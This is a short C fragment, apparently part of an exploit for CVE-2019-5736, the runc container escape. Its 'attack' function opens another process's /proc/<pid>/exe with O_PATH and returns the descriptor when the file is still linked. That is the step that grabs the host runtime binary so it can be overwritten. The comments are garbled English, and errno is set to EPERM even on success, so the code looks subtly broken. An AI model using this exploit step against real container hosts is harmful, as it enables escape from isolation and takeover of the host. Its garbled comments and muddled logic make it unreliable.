/* The program that becomes the container, written to (CVE-2019-5736): of a process, as it runs. */
#include "attack.h"

#include <sys/stat.h>

static long attack(char **argv)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    /* By a descriptor of the file, which is there when the program is not executed any more. */
    int exe = open(path, O_PATH);
    struct stat about;
    if (exe < 0 || fstat(exe, &about) != 0)
        return -1;
    /* Of a file that has no name there is nothing to be written to. */
    errno = EPERM;
    return about.st_nlink > 0 ? exe : -1;
}
